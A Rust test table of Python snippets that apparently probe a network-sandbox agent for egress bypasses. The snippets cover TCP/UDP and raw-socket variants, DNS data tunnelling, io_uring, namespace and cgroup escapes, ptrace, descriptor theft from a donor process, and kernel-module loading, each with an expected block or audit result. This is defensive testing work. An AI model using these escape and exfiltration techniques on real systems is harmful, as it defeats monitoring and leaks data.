//! The hostile programs: one for each way around the agent that somebody could think of.

/// Whom a program runs as.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Who {
    /// Somebody without any capability, as governed commands should.
    User,
    /// Root, with every capability: more than a governed command should have.
    Root,
}

/// What becomes of the attempt while the agent is well.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Expect {
    /// Denied, and in the audit log.
    Recorded,
    /// Denied by the kernel itself, which tells nobody.
    Denied,
    /// Recorded where BPF LSM is active; gets out elsewhere. The hook that closes it.
    Lsm(&'static str),
    /// Gets out; what would close it.
    Open(&'static str),
}

/// One way around the agent.
#[derive(Debug, Clone, Copy)]
pub struct Vector {
    /// Its name in the table.
    pub name: &'static str,
    /// Who tries it.
    pub who: Who,
    /// What must become of it.
    pub expect: Expect,
    /// The program, after `hostile.py`.
    pub program: &'static str,
}

const fn user(name: &'static str, expect: Expect, program: &'static str) -> Vector {
    let who = Who::User;
    Vector {
        name,
        who,
        expect,
        program,
    }
}

const fn root(name: &'static str, expect: Expect, program: &'static str) -> Vector {
    let who = Who::Root;
    Vector {
        name,
        who,
        expect,
        program,
    }
}

use Expect::{Denied, Lsm, Recorded};

const UNIX: &str = "LSM unix_stream_connect";
const SEND: &str = "LSM unix_may_send";
const RECEIVE: &str = "LSM file_receive";

/// Every way, in the order in which they are tried.
pub const VECTORS: &[Vector] = &[
    // TCP: redirected, and refused by policy.
    user("tcp, v4", Recorded, "s = tcp(); s.connect((V4, PORT)); talk(s)"),
    user(
        "tcp, v6",
        Recorded,
        "s = tcp(AF_INET6); s.connect((V6, PORT)); talk(s)",
    ),
    user(
        "tcp, v4-mapped",
        Recorded,
        "s = tcp(AF_INET6); s.connect((MAPPED, PORT)); talk(s)",
    ),
    user(
        "tcp, to a daemon here, v4",
        Recorded,
        "s = tcp(); s.connect((HERE4, PORT)); talk(s)",
    ),
    user(
        "tcp, to a daemon here, v6",
        Recorded,
        "s = tcp(AF_INET6); s.connect((HERE6, PORT)); talk(s)",
    ),
    user(
        "tcp, to this host as 0.0.0.0",
        Recorded,
        "s = tcp(); s.connect(('0.0.0.0', PORT)); talk(s)",
    ),
    user(
        "tcp, to this host as ::",
        Recorded,
        "s = tcp(AF_INET6); s.connect(('::', PORT)); talk(s)",
    ),
    user(
        "tcp, metadata service",
        Recorded,
        "s = tcp(); s.connect((META, PORT)); talk(s)",
    ),
    user(
        "tcp, non-blocking, v4",
        Recorded,
        "s = tcp(); s.setblocking(False); s.connect_ex((V4, PORT)); select.select([], [s], [], 1); talk(s)",
    ),
    user(
        "tcp, non-blocking, v6",
        Recorded,
        "s = tcp(AF_INET6); s.setblocking(False); s.connect_ex((V6, PORT)); select.select([], [s], [], 1); talk(s)",
    ),
    user(
        "tcp, AF_UNSPEC and again, v4",
        Recorded,
        "s = tcp()\ntry: s.connect((HERE4, 1))\nexcept OSError: pass\ndisconnect(s); s.connect((V4, PORT)); talk(s)",
    ),
    user(
        "tcp, AF_UNSPEC and again, v6",
        Recorded,
        "s = tcp(AF_INET6)\ntry: s.connect((HERE6, 1))\nexcept OSError: pass\ndisconnect(s); s.connect((V6, PORT)); talk(s)",
    ),
    user(
        "tcp, bound before, v4",
        Recorded,
        "s = tcp(); s.bind(('10.77.0.1', 0)); s.connect((V4, PORT)); talk(s)",
    ),
    user(
        "tcp, bound before, v6",
        Recorded,
        "s = tcp(AF_INET6); s.bind(('fd77::1', 0)); s.connect((V6, PORT)); talk(s)",
    ),
    user(
        "tcp, bound to a device, v4",
        Recorded,
        "s = tcp(); s.setsockopt(SOL_SOCKET, SO_BINDTODEVICE, b'v0'); s.connect((V4, PORT)); talk(s)",
    ),
    user(
        "tcp, bound to a device, v6",
        Recorded,
        "s = tcp(AF_INET6); s.setsockopt(SOL_SOCKET, SO_BINDTODEVICE, b'v0'); s.connect((V6, PORT)); talk(s)",
    ),
    user(
        "tcp, fast open by sendto, v4",
        Recorded,
        "s = tcp(); s.sendto(MARK, MSG_FASTOPEN, (V4, PORT)); s.recv(1)",
    ),
    user(
        "tcp, fast open by sendto, v6",
        Recorded,
        "s = tcp(AF_INET6); s.sendto(MARK, MSG_FASTOPEN, (V6, PORT)); s.recv(1)",
    ),
    user(
        "tcp, fast open by option, v4",
        Recorded,
        "s = tcp(); s.setsockopt(IPPROTO_TCP, 30, 1); s.connect((V4, PORT)); talk(s)",
    ),
    user(
        "tcp, fast open by option, v6",
        Recorded,
        "s = tcp(AF_INET6); s.setsockopt(IPPROTO_TCP, 30, 1); s.connect((V6, PORT)); talk(s)",
    ),
    root(
        "tcp, source route, v4",
        Recorded,
        "s = tcp(); s.setsockopt(IPPROTO_IP, 4, b'\\x83\\x07\\x04' + inet_aton(V4) + b'\\0'); s.connect((HERE4, PORT)); talk(s)",
    ),
    user(
        "tcp, routing header, v6",
        Recorded,
        "s = tcp(AF_INET6); s.setsockopt(IPPROTO_IPV6, 57, bytes([0, 4, 4, 1, 1, 0, 0, 0]) + inet_pton(AF_INET6, '::') + inet_pton(AF_INET6, V6)); s.connect((HERE6, PORT)); talk(s)",
    ),
    user(
        "tcp, port 53",
        Recorded,
        "s = tcp(); s.connect((V4, 53)); talk(s)",
    ),
    root(
        "tcp, from an address that is not ours",
        Denied,
        "s = tcp(); s.setsockopt(IPPROTO_IP, 19, 1); s.bind(('10.99.0.1', 0)); s.connect((V4, PORT)); talk(s)",
    ),
    root(
        "tcp, repair mode",
        Denied,
        "s = tcp(); s.setsockopt(IPPROTO_TCP, 19, 1); s.bind(('10.77.0.1', 0)); s.connect((V4, PORT)); s.setsockopt(IPPROTO_TCP, 19, 0); talk(s)",
    ),
    user(
        "tcp, MPTCP, v4",
        Recorded,
        "s = tcp(AF_INET, 262); s.connect((V4, PORT)); talk(s)",
    ),
    user(
        "tcp, MPTCP, v6",
        Recorded,
        "s = tcp(AF_INET6, 262); s.connect((V6, PORT)); talk(s)",
    ),
    // The agent's own doors.
    user(
        "the agent's listener",
        Recorded,
        "for family, port in listeners():\n    s = tcp(family); s.connect((HERE4 if family == AF_INET else HERE6, port)); talk(s)",
    ),
    user(
        "a port of the agent's",
        Recorded,
        "for family, port in listeners():\n    for flag in (SO_REUSEADDR, SO_REUSEPORT):\n        s = tcp(family); s.setsockopt(SOL_SOCKET, flag, 1)\n        s.bind(('0.0.0.0' if family == AF_INET else '::', port)); s.listen(); print('ESCAPED')",
    ),
    user(
        "getpeername",
        Recorded,
        "s = tcp(); s.connect((V4, PORT)); print('' if s.getpeername() == (V4, PORT) else 'ESCAPED'); talk(s)",
    ),
    // UDP.
    user("udp, v4", Recorded, "udp().sendto(MARK, (V4, PORT))"),
    user("udp, v6", Recorded, "udp(AF_INET6).sendto(MARK, (V6, PORT))"),
    user(
        "udp, v4-mapped",
        Recorded,
        "udp(AF_INET6).sendto(MARK, (MAPPED, PORT))",
    ),
    user(
        "udp, connected, v4",
        Recorded,
        "s = udp(); s.connect((V4, PORT)); s.send(MARK)",
    ),
    user(
        "udp, connected, v6",
        Recorded,
        "s = udp(AF_INET6); s.connect((V6, PORT)); s.send(MARK)",
    ),
    user(
        "udp, AF_UNSPEC address",
        Recorded,
        "s = udp(); check(libc.sendto(s.fileno(), MARK, len(MARK), 0, b'\\0\\0' + sa4(V4, PORT)[2:], 16))",
    ),
    user(
        "udp, v4 address on a v6 socket",
        Recorded,
        "s = udp(AF_INET6); check(libc.sendto(s.fileno(), MARK, len(MARK), 0, sa4(V4, PORT), 16))",
    ),
    user(
        "udp, connected, v4 address on a v6 socket",
        Recorded,
        "s = udp(AF_INET6); check(libc.connect(s.fileno(), sa4(V4, PORT) + b'\\0' * 12, 28)); s.send(MARK)",
    ),
    user(
        "udp, QUIC",
        Recorded,
        "udp().sendto(b'\\xc0\\0\\0\\0\\1' + MARK, (V4, 443))",
    ),
    user(
        "udp, to a daemon here, v4",
        Recorded,
        "udp().sendto(MARK, (HERE4, PORT))",
    ),
    user(
        "udp, to a daemon here, v6",
        Recorded,
        "udp(AF_INET6).sendto(MARK, (HERE6, PORT))",
    ),
    user(
        "udp, broadcast",
        Recorded,
        "s = udp(); s.setsockopt(SOL_SOCKET, SO_BROADCAST, 1); s.sendto(MARK, ('10.77.0.255', PORT))",
    ),
    user(
        "udp, multicast, v4",
        Recorded,
        "s = udp(); s.setsockopt(IPPROTO_IP, IP_MULTICAST_IF, inet_aton('10.77.0.1')); s.sendto(MARK, ('239.1.2.3', PORT))",
    ),
    user(
        "udp, multicast, v6",
        Recorded,
        "s = udp(AF_INET6); s.setsockopt(IPPROTO_IPV6, IPV6_MULTICAST_IF, if_nametoindex('v0')); s.sendto(MARK, ('ff02::1', PORT))",
    ),
    root(
        "udp, the resolver by another way, v4",
        Recorded,
        "s = udp(); s.setsockopt(IPPROTO_IP, 4, b'\\x83\\x07\\x04' + inet_aton(V4) + b'\\0'); s.sendto(MARK, (resolver(), 53))",
    ),
    user(
        "udp, the resolver then somebody else",
        Recorded,
        "s = udp(); s.connect((resolver(), 53)); s.sendto(MARK, (V4, PORT))",
    ),
    user(
        "udp, a name that carries data",
        Recorded,
        "s = udp(); s.sendto(name_question(MARK), (resolver(), 53)); s.recv(512); raise OSError(errno.EPERM, 'see the record')",
    ),
    user(
        "udp, a name that carries data, connected",
        Recorded,
        "s = udp(); s.connect((resolver(), 53)); s.send(name_question(MARK)); s.recv(512); raise OSError(errno.EPERM, 'see the record')",
    ),
    user(
        "udp, a name that carries data, v6",
        Recorded,
        "s = udp(AF_INET6); s.sendto(name_question(MARK), (V6, 53)); s.recv(512); raise OSError(errno.EPERM, 'see the record')",
    ),
    user(
        "udp, a name that carries data, another server",
        Recorded,
        "s = udp(); s.sendto(name_question(MARK), (V4, 53)); s.recv(512); raise OSError(errno.EPERM, 'see the record')",
    ),
    user(
        "udp, data in place of a question",
        Recorded,
        "s = udp(); s.sendto(MARK, (resolver(), 53)); s.recv(512)",
    ),
    user(
        "udp, data behind a question",
        Recorded,
        "s = udp(); s.sendto(name_question(b'localhost') + MARK, (resolver(), 53)); s.recv(512); raise OSError(errno.EPERM, 'see the record')",
    ),
    user(
        "tcp, a name that carries data",
        Recorded,
        "q = name_question(MARK); s = tcp(); s.connect((resolver(), 53)); s.sendall(struct.pack('!H', len(q)) + q); s.recv(512); raise OSError(errno.EPERM, 'see the record')",
    ),
    root(
        "udp, from an address that is not ours",
        Recorded,
        "s = udp(); s.setsockopt(IPPROTO_IP, 19, 1); s.bind(('10.99.0.1', 0)); s.sendto(MARK, (V4, PORT))",
    ),
    // Other protocols.
    root(
        "raw ICMP, v4",
        Recorded,
        "socket(AF_INET, SOCK_RAW, IPPROTO_ICMP).sendto(echo_request(), (V4, 0))",
    ),
    root(
        "raw ICMP, v6",
        Recorded,
        "socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6).sendto(echo_request(128), (V6, 0))",
    ),
    root(
        "raw IP, v4",
        Recorded,
        "socket(AF_INET, SOCK_RAW, IPPROTO_RAW).sendto(ip_packet(V4, 17, udp_packet()), (V4, 0))",
    ),
    root(
        "raw protocol 253, v4",
        Recorded,
        "socket(AF_INET, SOCK_RAW, 253).sendto(MARK, (V4, 0))",
    ),
    root(
        "raw protocol 253, v6",
        Recorded,
        "socket(AF_INET6, SOCK_RAW, 253).sendto(MARK, (V6, 0))",
    ),
    root(
        "ping, v4",
        Recorded,
        "ping_allowed()\nsocket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP).sendto(echo_request(), (V4, 0))",
    ),
    root(
        "ping, v6",
        Recorded,
        "ping_allowed()\nsocket(AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6).sendto(echo_request(128), (V6, 0))",
    ),
    user(
        "SCTP, v4",
        Recorded,
        "socket(AF_INET, SOCK_STREAM, 132).connect((V4, PORT))",
    ),
    user(
        "SCTP, v6",
        Recorded,
        "socket(AF_INET6, SOCK_STREAM, 132).connect((V6, PORT))",
    ),
    user("DCCP", Recorded, "socket(AF_INET, 6, 33).connect((V4, PORT))"),
    user(
        "UDP-Lite, v4",
        Recorded,
        "socket(AF_INET, SOCK_DGRAM, 136).sendto(MARK, (V4, PORT))",
    ),
    user(
        "UDP-Lite, v6",
        Recorded,
        "socket(AF_INET6, SOCK_DGRAM, 136).sendto(MARK, (V6, PORT))",
    ),
    root(
        "packet socket",
        Recorded,
        "s = socket(AF_PACKET, SOCK_RAW); s.bind(('v0', 0)); s.send(b'\\xff' * 6 + b'\\2\\0\\0\\0\\0\\1' + b'\\x88\\xb5' + MARK + b' ' * 40)",
    ),
    root("AF_XDP", Recorded, "socket(44, SOCK_RAW); print('ESCAPED')"),
    user(
        "vsock",
        Recorded,
        "socket(AF_VSOCK, SOCK_STREAM); print('ESCAPED')",
    ),
    // io_uring.
    user(
        "io_uring connect, v4",
        Recorded,
        "s = tcp(); Uring().connect(s, sa4(V4, PORT)); talk(s)",
    ),
    user(
        "io_uring connect, v6",
        Recorded,
        "s = tcp(AF_INET6); Uring().connect(s, sa6(V6, PORT)); talk(s)",
    ),
    user(
        "io_uring sendmsg, v4",
        Recorded,
        "Uring().sendto(udp(), MARK, sa4(V4, PORT))",
    ),
    user(
        "io_uring sendmsg, v6",
        Recorded,
        "Uring().sendto(udp(AF_INET6), MARK, sa6(V6, PORT))",
    ),
    user(
        "io_uring socket and connect",
        Recorded,
        "u = Uring(); s = socket(fileno=u.submit(45, AF_INET, SOCK_STREAM, 0, 0)); u.connect(s, sa4(V4, PORT)); talk(s)",
    ),
    root(
        "io_uring raw socket",
        Recorded,
        "socket(fileno=Uring().submit(45, AF_INET, SOCK_RAW, 0, 253)).sendto(MARK, (V4, 0))",
    ),
    user(
        "io_uring vsock",
        Recorded,
        "os.close(Uring().submit(45, AF_VSOCK, SOCK_STREAM, 0, 0)); print('ESCAPED')",
    ),
    // Processes.
    user(
        "double fork, setsid, exec",
        Recorded,
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: os.execv(sys.executable, [sys.executable, '-c', 'import os; from socket import *; socket(type=SOCK_DGRAM).sendto(os.environ[\"MARK\"].encode(), (\"198.51.100.9\", int(os.environ[\"PORT\"])))'])\n    os._exit(0)\nos.wait(); time.sleep(0.3); raise OSError(errno.EPERM, 'see the record')",
    ),
    user(
        "the main thread ends first",
        Recorded,
        "import threading\ndef late():\n    time.sleep(0.1); s = tcp(); s.connect((V4, PORT)); talk(s)\nthreading.Thread(target=late).start(); sys.stdout.flush(); call(EXIT, 0)",
    ),
    user(
        "cgroup move",
        Denied,
        "open(cgroups() + '/cgroup.procs', 'w').write('0'); udp().sendto(MARK, (V4, PORT))",
    ),
    root(
        "cgroup move, as root",
        Denied,
        "open(cgroups() + '/cgroup.procs', 'w').write('0'); udp().sendto(MARK, (V4, PORT))",
    ),
    user(
        "new user and network namespace, tcp",
        Recorded,
        "new_namespaces(); s = tcp(); s.connect((V4, PORT)); talk(s)",
    ),
    user(
        "new user and network namespace, udp",
        Recorded,
        "new_namespaces(); udp().sendto(MARK, (V4, PORT))",
    ),
    user(
        "new user and network namespace, raw",
        Recorded,
        "new_namespaces(); socket(AF_INET, SOCK_RAW, 253).sendto(MARK, (V4, 0))",
    ),
    root(
        "new network namespace",
        Denied,
        "new_namespaces(0x40000000); s = tcp(AF_INET6); s.connect((V6, PORT)); talk(s)",
    ),
    root(
        "new process in another cgroup",
        Denied,
        "there = os.open(cgroups(), os.O_RDONLY | os.O_DIRECTORY)\narguments = struct.pack('=11Q', 1 << 33, 0, 0, 0, 17, 0, 0, 0, 0, 0, there)\nif call(435, ctypes.create_string_buffer(arguments, 88), 88) == 0:\n    udp().sendto(MARK, (V4, PORT)); os._exit(0)\nos.wait()",
    ),
    root(
        "mount namespace of another process",
        Denied,
        "check(libc.setns(os.open('/proc/%s/ns/mnt' % os.environ['OTHER_PID'], os.O_RDONLY), 0x20000)); print('ESCAPED')",
    ),
    root(
        "what the kernel starts at a crash",
        Denied,
        "open('/proc/sys/kernel/core_pattern', 'r+').close(); print('ESCAPED')",
    ),
    root(
        "kernel module",
        Denied,
        "try: call(175 if BPF == 321 else 105, b'none', 4, b'')\nexcept OSError as error:\n    if error.errno in (errno.EPERM, errno.ENOSYS): raise\nprint('ESCAPED')",
    ),
    root(
        "the hooks' pins, as root",
        Denied,
        "places = ('/sys/fs/bpf', '/run/interdict/bpf')\nfor place in places:\n    for run in glob.glob(place + '/interdict/run-*'): print('ESCAPED', run)\nraise OSError(errno.ENOENT, 'no pins')",
    ),
    root(
        "mounts of its own",
        Denied,
        "check(libc.unshare(0x20000)); check(libc.mount(b'none', b'/', None, 0x44000, None)); check(libc.mount(b'none', b'/mnt', b'tmpfs', 0, None)); print('ESCAPED')",
    ),
    root(
        "network namespace of another process",
        Denied,
        "check(libc.setns(os.open('/proc/%s/ns/net' % os.environ['OTHER_PID'], os.O_RDONLY), 0x40000000))\ntry: s = tcp(); s.connect((V4, PORT))\nexcept ConnectionRefusedError: print('ESCAPED')",
    ),
    // Help of somebody who is free.
    user(
        "inherited descriptor",
        Denied,
        "socket(fileno=os.dup(9)).send(MARK)",
    ),
    user("passed descriptor", Lsm(RECEIVE), "passed().send(MARK)"),
    user(
        "a daemon's socket, path",
        Lsm(UNIX),
        "d = socket(AF_UNIX); d.connect(DONOR + '/daemon'); d.sendall(b'%d' % PORT); d.recv(1)",
    ),
    user(
        "a hidden daemon's socket",
        Denied,
        "d = socket(AF_UNIX); d.connect(DONOR + '/hidden/daemon'); d.sendall(b'%d' % PORT); d.recv(1)",
    ),
    user(
        "a daemon's socket, datagram",
        Lsm(SEND),
        "d = socket(AF_UNIX, SOCK_DGRAM); d.sendto(b'%d' % PORT, DONOR + '/datagrams'); time.sleep(0.2)",
    ),
    user(
        "a daemon's socket, abstract",
        Denied,
        "d = socket(AF_UNIX); d.connect('\\0interdict-escape-daemon'); d.sendall(b'%d' % PORT); d.recv(1)",
    ),
    user(
        "pidfd_getfd",
        Recorded,
        "socket(fileno=call(438, os.pidfd_open(DONOR_PID), 9, 0)).send(MARK)",
    ),
    user(
        "ptrace",
        Recorded,
        "check(libc.ptrace(16, DONOR_PID, None, None)); os.waitpid(DONOR_PID, 0x40000000); libc.ptrace(17, DONOR_PID, None, None); print('ESCAPED')",
    ),
    user(
        "another process's memory",
        Denied,
        "os.open('/proc/%d/mem' % DONOR_PID, os.O_RDWR); print('ESCAPED')",
    ),
    user(
        "answers to whoever connects, v4",
        Recorded,
        "s = tcp(); s.bind(('10.77.0.1', PORT)); s.listen(); c, _ = s.accept(); c.sendall(MARK); print('ESCAPED')",
    ),
    user(
        "answers to whoever connects, v6",
        Recorded,
        "s = tcp(AF_INET6); s.bind(('fd77::1', PORT)); s.listen(); c, _ = s.accept(); c.sendall(MARK); print('ESCAPED')",
    ),
    user(
        "signal to the agent",
        Denied,
        "os.kill(int(os.environ['AGENT_PID']), 0); print('ESCAPED')",
    ),
    user(
        "bpf()",
        Denied,
        "call(BPF, 11, ctypes.create_string_buffer(128), 128); print('ESCAPED')",
    ),
    root(
        "bpf(), as root",
        Recorded,
        "call(BPF, 11, ctypes.create_string_buffer(128), 128); print('ESCAPED')",
    ),
    user(
        "signal to a free process",
        Denied,
        "os.kill(DONOR_PID, 0); print('ESCAPED')",
    ),
    user(
        "the hooks' pins",
        Denied,
        "found = [d for d in ('/sys/fs/bpf/interdict', '/run/interdict/bpf/interdict') if os.listdir(d)]\nprint('ESCAPED')",
    ),
    // Floods: more than the tables hold.
    user(
        "flood of denials",
        Recorded,
        "s = udp()\nfor i in range(5000):\n    try: s.sendto(MARK, (V4, PORT))\n    except PermissionError: pass\ns.sendto(MARK, (V4, PORT))",
    ),
    user(
        "flood of connections",
        Recorded,
        "open_ = []\nfor i in range(300):\n    s = socket(); s.setblocking(False); s.connect_ex((V4, PORT)); open_.append(s)\ntalk(open_[-1])",
    ),
    user(
        "every other family",
        Recorded,
        "made = []\nfor family in set(range(64)) - {AF_UNIX, AF_INET, AF_INET6, AF_NETLINK, AF_VSOCK, AF_PACKET}:\n    for kind in range(1, 6):\n        try: socket(family, kind); made.append(family)\n        except OSError: pass\nif made: print('ESCAPED', set(made))\nelse: raise OSError(errno.EAFNOSUPPORT, 'none')",
    ),
];
